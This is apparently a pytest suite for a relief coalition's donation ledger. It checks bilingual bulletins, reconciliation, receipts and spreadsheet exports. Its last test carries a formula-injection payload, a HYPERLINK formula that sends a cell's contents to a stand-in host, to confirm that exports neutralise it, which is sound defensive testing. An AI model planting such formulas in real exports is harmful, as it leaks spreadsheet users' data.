"""The ledger's pure side: entries from events, reports, reconciliation, bulletin, exports."""

import io
import tomllib
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from services.accounting import reports
from services.common import money, reference, units
from services.donations import receipts
from services.donations.service import public_donor, share_of_value, summarise

REF = reference.load("deploy/reference")
AT = datetime(2020, 2, 10, 9, 0, tzinfo=UTC)


def donation(i, category, quantity, unit, value, location="QY-S01-C01", **kw):
    return {"donation_id": f"D{i}", "lot_id": f"D{i}", "category": category,
            "quantity": quantity, "unit": unit, "value_yuan": value, "location_id": location,
            "donor": {"name": kw.pop("donor", "好医生集团"), "kind": "company"}, **kw}


# the 2020 coalition's figures, sent in as several donations each
SEASON = [
    donation(1, "thermometers", 60, "piece", 7200),
    donation(2, "thermometers", 42, "piece", 5040, location="QY-S02"),
    donation(3, "masks", 70000, "piece", 350000),
    donation(4, "masks", 260, "piece", 1300.5),
    donation(5, "disinfectant", 5728, "jin", 4850000, programme="抗疫联合服务合力计划"),
    donation(6, "vegetables", 40, "t", 165853.66, location="QY"),
    donation(7, "vegetables", 1000, "kg", 4146.34, location="QY-S03"),
    donation(8, "medicine", 38810, "box", 1112000, donor="德仁堂药业有限公司"),
    donation(9, "insurance", 1000, "policy", 0),
]


def season_entries():
    entries = [reports.goods_in_entry(REF, d, AT, f"e{i}") for i, d in enumerate(SEASON)]
    entries.append(reports.allocated_entry(REF, {
        "assignment_id": "N1#1", "need_id": "N1", "community_id": "QY-S01-C02",
        "category": "masks", "quantity": 600, "unit": "piece", "lot_id": "D3",
        "lot_quantity": 600, "lot_unit": "piece", "location_id": "QY-S01-C01",
        "tier_distance": 1, "value_yuan": 3000.0}, AT, "a1"))
    entries.append(reports.written_off_entry(REF, {
        "lot_id": "D7", "category": "vegetables", "location_id": "QY-S03", "delta": -200,
        "available": 800, "unit": "kg", "reason": "written_off", "write_off_id": "WO-1",
        "write_off_reason": "expired", "value_yuan": 829.27}, AT, "w1"))
    for i in range(3):
        entries.append(reports.hours_entry({
            "hours_id": f"H{i}", "volunteer_id": f"V{i % 2}", "hours": 4.5,
            "date": date(2020, 2, 11), "activity": "counselling" if i else "screening",
            "programme": "社区心理援助暖心计划"}, AT, f"h{i}"))
    for i, role in enumerate(["founding"] * 2 + ["member"] * 3):
        entries.append(reports.organisation_entry({
            "organisation_id": f"O{i}", "name": f"org {i}", "role": role,
            "kind": "social_organisation"}, AT, f"o{i}"))
    entries.append(reports.training_entry({"session_id": "T1", "title": "疫情期间社创机构的担当",
                                           "date": date(2020, 2, 20), "attendances": 260},
                                          AT, "t1"))
    return entries


def test_the_bulletin_adds_up_exactly_by_category_with_units_and_values():
    figures = reports.bulletin_figures(REF, season_entries())
    goods = {g["category"]: g for g in figures["goods"]}
    assert (goods["thermometers"]["received"], goods["thermometers"]["unit"]) == (102, "piece")
    assert goods["masks"]["received"] == 70260 and goods["masks"]["received_yuan"] == 351300.5
    assert goods["masks"]["allocated"] == 600 and goods["masks"]["in_stock"] == 69660
    assert (goods["disinfectant"]["received"], goods["disinfectant"]["unit"]) == (5728, "jin")
    assert goods["disinfectant"]["received_yuan"] == 4850000
    veg = goods["vegetables"]
    assert (veg["received"], veg["unit"], veg["received_yuan"]) == (41, "t", 170000.0)
    assert (veg["written_off"], veg["written_off_yuan"]) == (0.2, 829.27)
    assert goods["medicine"]["received"] == 38810 and goods["insurance"]["received"] == 1000
    assert figures["goods_total_yuan"] == round(sum(d["value_yuan"] for d in SEASON), 2)
    assert figures["volunteers"]["served"] == 2 and figures["volunteers"]["hours"] == 13.5
    assert figures["volunteers"]["hours_by_activity"] == {"counselling": 9, "screening": 4.5}
    assert figures["organisations"]["founding"] == 2 and figures["organisations"]["member"] == 3
    assert figures["training"] == {"sessions": 1, "attendances": 260}

    zh = reports.bulletin_text(REF, figures, "zh-CN")
    assert "测温仪 102 台" in zh and "防护口罩 70,260 支" in zh and "消毒液 5,728 斤" in zh
    assert "新鲜蔬菜 41 吨，价值 170,000.00 元（约 17 万元）" in zh
    assert "约 485 万元" in zh and "医药物品 38,810 箱" in zh
    assert "心理辅导 9 小时" in zh and "入户排查 4.5 小时" in zh
    assert "联盟发起单位 2 家，参与互助单位 3 家" in zh and "参与 260 人次" in zh
    en = reports.bulletin_text(REF, figures, "en")
    assert "thermometers: 102 units" in en and "fresh vegetables: 41 t" in en
    assert "截至 2020-02-20" in zh and "As of 2020-02-20" in en


def report_season():
    """The 2020 report's section 一 and 四 as events: purchases and goods without a value,
    policies with their cover, services delivered and programmes with their reach."""
    donated = [
        donation(1, "kn95_masks", 500, "piece", 5000),
        donation(2, "disinfectant", 5728, "jin", 4850000),
        donation(3, "vegetables", 41, "t", 170000),
        donation(4, "medicine", 38810, "box", 1112000),
        donation(5, "insurance", 1000, "policy", None, face_value_yuan=200000,
                 donor="华夏保险"),
        {**donation(6, "bike_cards", 100, "card", 0, donor="美团骑行"), "value_yuan": 0,
         "value_known": False},  # as donations passes an unvalued lot on
        donation(7, "learning_accounts", 500, "account", 200000,
                 programme="抗疫联合服务合力计划"),
    ]
    bought = [donation(8, "thermometers", 102, "piece", None, acquisition="purchased"),
              donation(9, "masks", 70260, "piece", None, acquisition="purchased")]
    entries = [reports.goods_in_entry(REF, d, AT, f"e{i}")
               for i, d in enumerate(donated + bought)]
    for i, (programme, category, sessions, people, providers) in enumerate([
            ("爱心益剪", "haircut", 0, 400, 6), ("e修就好", "repair", 50, 0, 0),
            ("社区心理援助暖心计划", "counselling", 0, 100, 20)]):
        entries.append(reports.service_delivery_entry({
            "delivery_id": f"S{i}", "programme": programme, "category": category,
            "date": date(2020, 3, 1), "sessions": sessions, "people_served": people,
            "providers": providers, "approximate": True}, AT, f"s{i}"))
    old, new = ({"programme_id": "P2", "name": "社区“疫路同行”计划", "recorded_at": at,
                 "activities": n, "communities": 30, "groups": 50, "participants": 200,
                 "approximate": True}
                for at, n in ((AT, 4), (datetime(2020, 3, 2, tzinfo=UTC), 10)))
    entries += [reports.programme_entry(new, AT, "p2b"), reports.programme_entry(old, AT, "p2a")]
    entries.append(reports.programme_entry({
        "programme_id": "P4", "name": "菜篮子进社区", "plan": "抗疫联合服务合力计划",
        "recorded_at": AT, "communities": 40, "reach": 7000, "approximate": True,
        "outputs": [{"description": "售出蔬菜", "description_en": "vegetables sold",
                     "quantity": 100, "unit": "t"}]}, AT, "p4"))
    return entries


def test_the_reports_season_purchases_unknown_values_services_and_programmes():
    figures = reports.bulletin_figures(REF, report_season(), None, "2020-03-31")
    goods = {g["category"]: g for g in figures["goods"]}
    bought = {g["category"]: g for g in figures["purchases"]}
    assert set(bought) == {"thermometers", "masks"} and "masks" not in goods
    assert bought["masks"]["received"] == 70260 and not bought["masks"]["valued"]
    assert figures["purchases_unvalued_categories"] == 2
    assert goods["insurance"]["face_value_yuan"] == 200000 and not goods["insurance"]["valued"]
    assert figures["goods_unvalued_categories"] == 2  # insurance, bike cards
    assert figures["goods_total_yuan"] == 5000 + 4850000 + 170000 + 1112000 + 200000
    services = {s["programme"]: s for s in figures["services"]}
    assert services["爱心益剪"]["people_served"] == 400 and services["e修就好"]["sessions"] == 50
    programmes = {p["programme"]: p for p in figures["programmes"]}
    assert programmes["社区“疫路同行”计划"]["activities"] == 10  # the latest recording
    assert programmes["抗疫联合服务合力计划"]["goods_yuan"] == 200000
    assert figures["platforms"] == {"district": 1, "streets": 12, "communities": 79}

    zh = reports.bulletin_text(REF, figures, "zh-CN")
    assert "截至 2020-03-31" in zh
    assert "测温仪 102 台，未计价值" in zh and "防护口罩 70,260 支，未计价值" in zh
    assert zh.index("链接购买物资") > zh.index("物资合计价值")
    assert "防疫保险 1,000 份（每份保额/面值 200,000.00 元），未计价值" in zh
    assert "骑行月卡 100 张，未计价值" in zh and "线上学习账号 500 个，价值 200,000.00 元" in zh
    assert "（其中 2 类未计价值）" in zh and "医药物品 38,810 箱" in zh
    assert "爱心益剪（理发）：服务 400余 人次，服务人员 6余 名" in zh
    assert "e修就好（家电维修）：服务 50余 次" in zh
    assert ("社区“疫路同行”计划：开展活动 10余 期，参与社区 30余 个，社区自组织 50余 支，"
            "参与 200余 人") in zh
    assert ("菜篮子进社区（抗疫联合服务合力计划）：参与社区 40余 个，覆盖 7,000余 人次，"
            "售出蔬菜 100余 吨") in zh
    assert "街道社创平台 12 个，社区社会工作站 79 个" in zh
    en = reports.bulletin_text(REF, figures, "en")
    assert "As of 2020-03-31" in en and "thermometers: 102 units, not valued" in en
    assert "(2 categories not valued)" in en and "epidemic insurance: 1,000 policies" in en
    assert "vegetables sold 100+ t" in en and "400+ people served, 6+ providers" in en
    # the English bulletin states the same figures, line for line
    assert len(zh.splitlines()) == len(en.splitlines())


def test_a_served_service_need_is_a_service_delivered_to_its_programme():
    served = {"need_id": "N9", "community_id": "QY-S01-C01", "category": "haircut",
              "quantity": 3, "unit": "session", "programme": "爱心益剪", "beneficiaries": 3,
              "volunteer_id": "V1"}
    entry = reports.served_need_entry(REF, served, AT, "f1")
    assert (entry["sessions"], entry["people_served"]) == (3, 3)
    assert reports.served_need_entry(REF, {**served, "category": "masks", "unit": "piece"},
                                     AT, "f2") is None  # goods count from allocations
    plain = reports.served_need_entry(REF, {**served, "need_id": "N10", "category":
                                            "counselling", "unit": "hour", "programme": None,
                                            "beneficiaries": None}, AT, "f3")
    figures = reports.bulletin_figures(REF, [entry, plain])
    services = {(s["programme"], s["category"]): s for s in figures["services"]}
    assert services[("爱心益剪", "haircut")]["sessions"] == 3
    assert services[("-", "counselling")]["sessions"] == 1
    assert [p["programme"] for p in figures["programmes"]] == ["爱心益剪"]


def whole_season():
    """The report's season with cash against a pledge and a member's status report: every
    section of the bulletin."""
    return report_season() + [
        reports.goods_in_entry(REF, donation(10, "cash", 50000, "yuan", 50000,
                                             pledge_id="P1"), AT, "e10"),
        reports.pledge_entry({"pledge_id": "P1", "category": "cash", "quantity": 80000,
                              "unit": "yuan", "value_yuan": 80000, "expected_at": AT.date(),
                              "donor": {"name": "某爱心企业", "kind": "company"}}, AT, "p1"),
        reports.status_report_entry({
            "report_id": "R1", "organisation_id": "O1", "reported_at": AT, "activities": "配送",
            "staff": {"total": 12, "healthy": 11, "fever": 0, "quarantined": 1},
            "resumption": "partial"}, AT, "r1")]


WHOLE_SEASON_ZH = [
    "抗疫联盟工作简报",
    "截至 2020-03-31",
    "",
    "一、募集物资",
    "  消毒液 5,728 斤，价值 4,850,000.00 元（约 485 万元）；已分配 0 斤，报损 0 斤，"
    "库存 5,728 斤",
    "  医药物品 38,810 箱，价值 1,112,000.00 元（约 111.2 万元）；已分配 0 箱，报损 0 "
    "箱，库存 38,810 箱",
    "  线上学习账号 500 个，价值 200,000.00 元（约 20 万元）；已分配 0 个，报损 0 个，"
    "库存 500 个",
    "  新鲜蔬菜 41 吨，价值 170,000.00 元（约 17 万元）；已分配 0 吨，报损 0 吨，库存 41 "
    "吨",
    "  KN95口罩 500 个，价值 5,000.00 元；已分配 0 个，报损 0 个，库存 500 个",
    "  骑行月卡 100 张，未计价值；已分配 0 张，报损 0 张，库存 100 张",
    "  防疫保险 1,000 份（每份保额/面值 200,000.00 元），未计价值；已分配 0 份，报损 0 "
    "份，库存 1,000 份",
    "  物资合计价值 6,337,000.00 元（约 633.7 万元）（其中 2 类未计价值）",
    "  现金捐赠 50,000.00 元（约 5 万元）；已拨付 0.00 元，结余 50,000.00 元（约 5 万元）",
    "  认捐 1 笔，认捐价值 80,000.00 元（约 8 万元），已到位 50,000.00 元（约 5 万元）",
    "  链接购买物资（不计入募集物资）：",
    "    防护口罩 70,260 支，未计价值；已分配 0 支，报损 0 支，库存 70,260 支",
    "    测温仪 102 台，未计价值；已分配 0 台，报损 0 台，库存 102 台",
    "  链接购买物资合计价值 0.00 元（其中 2 类未计价值）",
    "",
    "二、志愿服务",
    "  参与服务志愿者 0 名（登记 0 名），经审核的志愿服务时长 0 小时",
    "  服务成效：",
    "    e修就好（家电维修）：服务 50余 次",
    "    爱心益剪（理发）：服务 400余 人次，服务人员 6余 名",
    "    社区心理援助暖心计划（心理辅导）：服务 100余 人次，服务人员 20余 名",
    "",
    "三、联盟成员",
    "  联盟发起单位 0 家，参与互助单位 0 家",
    "  三级平台：区级 1 个，街道社创平台 12 个，社区社会工作站 79 个",
    "",
    "四、能力建设",
    "  培训 0 期，参与 0 人次",
    "",
    "五、服务计划",
    "  e修就好：服务 50 次",
    "  抗疫联合服务合力计划：物资价值 200,000.00 元（约 20 万元）",
    "  爱心益剪：服务 400 人次",
    "  社区“疫路同行”计划：开展活动 10余 期，参与社区 30余 个，社区自组织 50余 支，参与 "
    "200余 人",
    "  社区心理援助暖心计划：服务 100 人次",
    "  菜篮子进社区（抗疫联合服务合力计划）：参与社区 40余 个，覆盖 7,000余 人次，"
    "售出蔬菜 100余 吨",
    "",
    "六、成员机构动态",
    "  报送工作动态的机构 1 家：已复工 0 家，部分复工 1 家，暂停 0 家；员工 12 人，健康 "
    "11 人，发热 0 人，隔离 1 人",
]
WHOLE_SEASON_EN = [
    "Coalition progress bulletin",
    "As of 2020-03-31",
    "",
    "1. Goods received",
    "  disinfectant: 5,728 jin, worth 4,850,000.00 yuan; allocated 0, written off 0, in "
    "stock 5,728",
    "  medicine: 38,810 boxes, worth 1,112,000.00 yuan; allocated 0, written off 0, in "
    "stock 38,810",
    "  online-learning accounts: 500 accounts, worth 200,000.00 yuan; allocated 0, "
    "written off 0, in stock 500",
    "  fresh vegetables: 41 t, worth 170,000.00 yuan; allocated 0, written off 0, in "
    "stock 41",
    "  KN95 masks: 500 masks, worth 5,000.00 yuan; allocated 0, written off 0, in stock "
    "500",
    "  bike-share monthly cards: 100 cards, not valued; allocated 0, written off 0, in "
    "stock 100",
    "  epidemic insurance: 1,000 policies (cover or face value 200,000.00 yuan each), "
    "not valued; allocated 0, written off 0, in stock 1,000",
    "  Total value of goods: 6,337,000.00 yuan (2 categories not valued)",
    "  Cash donations: 50,000.00 yuan; paid out 0.00 yuan, balance 50,000.00 yuan",
    "  1 pledges worth 80,000.00 yuan, received so far 50,000.00 yuan",
    "  Bought through the coalition's links (not counted as goods received):",
    "    protective masks: 70,260 masks, not valued; allocated 0, written off 0, in "
    "stock 70,260",
    "    thermometers: 102 units, not valued; allocated 0, written off 0, in stock 102",
    "  Total value of purchases: 0.00 yuan (2 categories not valued)",
    "",
    "2. Volunteering",
    "  0 volunteers served (0 registered), 0 approved hours",
    "  Services delivered:",
    "    e修就好 (appliance repair): 50+ sessions",
    "    爱心益剪 (haircuts): 400+ people served, 6+ providers",
    "    社区心理援助暖心计划 (counselling): 100+ people served, 20+ providers",
    "",
    "3. Coalition",
    "  0 founding and 0 member organisations",
    "  Three tiers: 1 district centre, 12 street platforms, 79 community stations",
    "",
    "4. Training",
    "  0 sessions, 0 attendances",
    "",
    "5. Programmes",
    "  e修就好: services: 50 sessions",
    "  抗疫联合服务合力计划: goods worth 200,000.00 yuan",
    "  爱心益剪: services: 400 people served",
    "  社区“疫路同行”计划: 10+ activities; 30+ communities; 50+ self-organised groups; "
    "200+ participants",
    "  社区心理援助暖心计划: services: 100 people served",
    "  菜篮子进社区 (抗疫联合服务合力计划): 40+ communities; 7,000+ people reached; "
    "vegetables sold 100+ t",
    "",
    "6. Member organisations",
    "  1 organisations reported: 0 resumed, 1 partly, 0 suspended; staff 12, healthy 11, "
    "fever 0, quarantined 1",
]


def test_the_bulletin_text_is_printed_line_for_line_in_both_languages():
    figures = reports.bulletin_figures(REF, whole_season(), None, "2020-03-31")
    assert reports.bulletin_text(REF, figures, "zh-CN") == "\n".join(WHOLE_SEASON_ZH) + "\n"
    assert reports.bulletin_text(REF, figures, "en") == "\n".join(WHOLE_SEASON_EN) + "\n"
    assert reports.bulletin_text(REF, figures, "en", title="March").startswith("March\nAs of")
    with pytest.raises(ValueError):
        reports.bulletin_text(REF, figures, "fr")


def test_the_bulletin_templates_ship_with_the_package():
    root = Path(reports.__file__).resolve().parent
    with open("pyproject.toml", "rb") as f:
        shipped = tomllib.load(f)["tool"]["setuptools"]["package-data"]["services.accounting"]
    templates = {p for pattern in shipped for p in root.glob(pattern)}
    assert templates == {root / "templates" / lang / "bulletin.j2"
                         for lang in reports.UNIT_LABELS}


def test_a_date_range_and_groupings():
    entries = season_entries()
    assert reports.bulletin_figures(REF, entries, "2020-02-12", None)["goods"] == []
    by_street = {(r["group"], r["category"]): r for r in reports.report(REF, entries, "street")}
    assert by_street[("QY-S02", "thermometers")]["received"] == 42
    assert by_street[("QY-S01", "masks")]["allocated"] == 600
    by_donor = {(r["group"], r["category"]): r for r in reports.report(REF, entries, "donor")}
    assert by_donor[("德仁堂药业有限公司", "medicine")]["received"] == 38810
    assert by_donor[("好医生集团", "masks")]["allocated_yuan"] == 3000.0  # via its lot
    by_programme = {r["group"]: r for r in reports.report(REF, entries, "programme")
                    if r["category"] == "counselling"}
    assert by_programme["社区心理援助暖心计划"]["hours"] == 9
    with pytest.raises(ValueError):
        reports.report(REF, entries, "colour")


def test_reconciliation_balances_and_reports_a_difference():
    entries = season_entries()
    lots = [{"category": d["category"], "location_id": d["location_id"], "unit": d["unit"],
             "quantity": reports.units.to_milli(d["quantity"], d["unit"]),
             "available": reports.units.to_milli(d["quantity"], d["unit"]),
             "allocated": 0, "written_off": 0} for d in SEASON]
    lots[2]["available"] -= 600_000
    lots[6]["available"] -= 200_000
    result = reports.reconcile(REF, entries, summarise(lots))
    assert result["balanced"], result["differences"]
    lots[0]["available"] -= 1000  # a thermometer gone without an event
    result = reports.reconcile(REF, entries, summarise(lots))
    assert not result["balanced"]
    [diff] = result["differences"]
    assert (diff["category"], diff["location_id"], diff["difference"]) == (
        "thermometers", "QY-S01-C01", 1)


def disinfectant_given_to_79_needs(value_of_take):
    """The seed's disinfectant lot (5,728 jin, 4,850,000 yuan, at the district warehouse)
    emptied by 79 needs of 73 and 72 jin; ``value_of_take(taken_before, milli)`` -> fen."""
    lot_milli = units.to_milli(5728, "jin")
    entries = [reports.goods_in_entry(REF, donation(
        5, "disinfectant", 5728, "jin", 4850000, location="QY"), AT, "e5")]
    taken = taken_fen = 0
    communities = [a for a in REF.areas.areas if REF.areas.tier(a) == "community"]
    for i, (community, jin) in enumerate(zip(communities, [73] * 40 + [72] * 39,
                                             strict=True)):
        milli = units.to_milli(jin, "jin")
        fen = value_of_take(taken, taken_fen, milli)
        taken, taken_fen = taken + milli, taken_fen + fen
        entries.append(reports.allocated_entry(REF, {
            "assignment_id": f"N{i}#1", "need_id": f"N{i}", "community_id": community,
            "category": "disinfectant", "quantity": jin, "unit": "jin", "lot_id": "D5",
            "lot_quantity": jin, "lot_unit": "jin", "location_id": "QY", "tier_distance": 2,
            "value_yuan": money.to_yuan(fen)}, AT, f"a{i}"))
    lots = [{"_id": "D5", "category": "disinfectant", "location_id": "QY", "unit": "jin",
             "quantity": lot_milli, "available": lot_milli - taken, "allocated": taken,
             "allocated_fen": taken_fen, "written_off": 0, "value_yuan": 4850000}]
    return entries, summarise(lots)


def test_a_lot_whose_shares_do_not_add_up_to_its_value_is_not_balanced():
    lot_milli, lot_fen = units.to_milli(5728, "jin"), money.to_fen(4850000)
    # each share rounded to the fen alone: 4,850,000.31 yuan allocated from the lot
    entries, stock = disinfectant_given_to_79_needs(
        lambda _milli, _fen, milli: money.value_of(lot_fen, lot_milli, milli))
    [cell] = stock
    assert cell["in_stock_fen"] == -31 and cell["available_milli"] == 0
    result = reports.reconcile(REF, entries, stock)
    assert not result["balanced"]
    [lot] = result["lot_differences"]
    assert (lot["lot_id"], lot["allocated_yuan"], lot["in_stock_yuan"],
            lot["value_difference_yuan"]) == ("D5", 4850000.31, 0.0, -0.31)
    [row] = result["differences"]
    assert (row["category"], row["location_id"], row["difference"],
            row["lots_value_difference_yuan"]) == ("disinfectant", "QY", 0, -0.31)


def test_a_lot_emptied_by_the_rules_shares_balances_to_the_fen():
    lot_milli, lot_fen = units.to_milli(5728, "jin"), money.to_fen(4850000)
    entries, stock = disinfectant_given_to_79_needs(
        lambda taken, taken_fen, milli: money.share_fen(lot_milli, lot_fen, taken, taken_fen,
                                                        milli))
    assert stock[0]["in_stock_fen"] == 0
    result = reports.reconcile(REF, entries, stock)
    assert result["balanced"], (result["differences"], result["lot_differences"])
    [row] = result["rows"]
    assert (row["allocated"], row["allocated_yuan"], row["in_stock"], row["in_stock_yuan"]) \
        == (5728, 4850000.0, 0, 0.0)
    [lot] = reports.lot_values(REF, entries)
    assert (lot["allocated_yuan"], lot["in_stock_yuan"], lot["value_difference_fen"]) == (
        4850000.0, 0.0, 0)


def test_a_partly_allocated_lot_is_worth_the_rules_value_of_what_is_left():
    entries = season_entries()
    lots = {lot["lot_id"]: lot for lot in reports.lot_values(REF, entries)}
    # 200 kg of 1,000 kg worth 4,146.34 written off at its share, 829.27 (829.268)
    assert (lots["D7"]["written_off_yuan"], lots["D7"]["in_stock_yuan"]) == (829.27, 3317.07)
    assert lots["D3"]["in_stock_yuan"] == 350000 - 3000
    assert all(lot["value_difference_fen"] == 0 for lot in lots.values())


def test_exports_carry_the_same_figures():
    entries = season_entries()
    rows = reports.report(REF, entries)
    text = reports.to_csv(rows)
    assert text.startswith("\ufeff")  # Excel reads it as UTF-8
    assert text.splitlines()[0].startswith("\ufeffgroup,category,name,unit,received")
    assert reports.to_csv(rows, "zh-CN").startswith("\ufeff分组,类别,名称,单位,接收数量")
    assert "masks,masks,防护口罩,piece,70260.0,351300.5,600.0,3000.0" in text
    figures = reports.bulletin_figures(REF, entries)
    book = load_workbook(io.BytesIO(reports.to_xlsx(rows, figures)))
    sheet = book["bulletin"]
    values = {r[0]: r for r in sheet.iter_rows(values_only=True) if r and r[0]}
    assert values["vegetables"][2:5] == ("t", 41, 170000)
    assert values["volunteer_hours"][1] == 13.5
    zh = load_workbook(io.BytesIO(reports.to_xlsx(rows, figures, "zh-CN")))
    sheet = zh["report"]
    assert [c.value for c in sheet[1]][:5] == ["分组", "类别", "名称", "单位", "接收数量"]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    masks = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "masks")
    assert masks[4].value == 70260 and masks[4].number_format == "#,##0.###"
    assert masks[5].value == 351300.5 and masks[5].number_format == "#,##0.00"
    assert sheet.column_dimensions["C"].width >= 10  # 防护口罩: four wide characters
    summary = {r[0]: r[1] for r in zh["bulletin"].iter_rows(values_only=True) if r and r[0]}
    assert summary["志愿服务时长（小时）"] == 13.5


def test_entries_are_keyed_by_their_cause():
    d = SEASON[0]
    assert reports.goods_in_entry(REF, d, AT, "x")["_id"] == \
        reports.goods_in_entry(REF, d, AT, "y")["_id"] == "in:D1"


def test_receipts_and_what_other_services_see_of_a_donor():
    doc = {**SEASON[4], "receipt_no": receipts.receipt_number(2020, 7), "received_at": AT,
           "value_method": "market", "donor": {"name": "张三", "kind": "person",
                                               "contact": {"phone": "13800001111"}}}
    zh = receipts.render(doc, REF, "zh-CN")
    assert "JZ-2020-000007" in zh and "张三" in zh and "5,728 斤" in zh and "市场价值" in zh
    assert "13800001111" not in zh
    en = receipts.render(doc, REF, "en")
    assert "Donation receipt" in en and "4,850,000.00" in en
    public = public_donor(doc["donor"])
    assert public == {"name": "个人捐赠者", "kind": "person"}
    lot = {"quantity": 1_000_000, "value_yuan": 4146.34}
    assert share_of_value(lot, 200_000) == 829.27


def test_goods_bought_and_moved_to_a_street_stay_purchased_when_they_are_given():
    bought = donation(1, "vegetables", 10, "t", None, location="QY", acquisition="purchased")
    moved = {**donation(2, "vegetables", 4, "t", None, location="QY-S01",
                        acquisition="purchased"), "transfer_of": "D1"}
    entries = [
        reports.goods_in_entry(REF, bought, AT, "e1"),
        reports.transferred_out_entry(REF, {
            "lot_id": "D1", "category": "vegetables", "location_id": "QY", "delta": -4,
            "available": 6, "unit": "t", "reason": "transferred", "transfer_id": "TR-1",
            "to_location_id": "QY-S01"}, AT, "t1"),
        reports.transferred_in_entry(REF, moved, AT, "t2"),
        reports.allocated_entry(REF, {
            "assignment_id": "N1#1", "need_id": "N1", "community_id": "QY-S01-C01",
            "category": "vegetables", "quantity": 4, "unit": "t", "lot_id": "D2",
            "lot_quantity": 4, "lot_unit": "t", "location_id": "QY-S01", "tier_distance": 1,
            "value_yuan": 0.0}, AT, "a1")]
    figures = reports.bulletin_figures(REF, entries, None, None)
    bought_rows = {g["category"]: g for g in figures["purchases"]}
    assert bought_rows["vegetables"]["received"] == 10
    assert bought_rows["vegetables"]["allocated"] == 4
    assert "vegetables" not in {g["category"] for g in figures["goods"]}  # nothing donated


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
    from services.common import sheets

    columns = [("programme", "项目", "programme", "text"), ("quantity", "数量", "quantity",
                                                           "quantity")]
    rows = [{"programme": '=HYPERLINK("http://x/?"&A2,"点我")', "quantity": -5},
            {"programme": "@SUM(A1)", "quantity": 2},
            {"programme": "社区“疫路同行”", "quantity": 1}]
    text = sheets.to_csv(columns, rows)
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert "'@SUM(A1)" in text and "社区“疫路同行”,1" in text
    sheet = load_workbook(io.BytesIO(sheets.to_xlsx([("needs", columns, rows)]))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'=HYPERLINK(")
    assert sheet["B2"].value == -5  # numbers stay numbers, negative or not
    assert sheet["A4"].value == "社区“疫路同行”"
    # control characters a workbook cannot hold are replaced, never a failed export
    odd = [{"programme": "a\x00b\x1bc\td", "quantity": 1}]
    cell = load_workbook(io.BytesIO(sheets.to_xlsx([("x", columns, odd)]))).active["A2"]
    assert cell.value == "a\ufffdb\ufffdc\td"
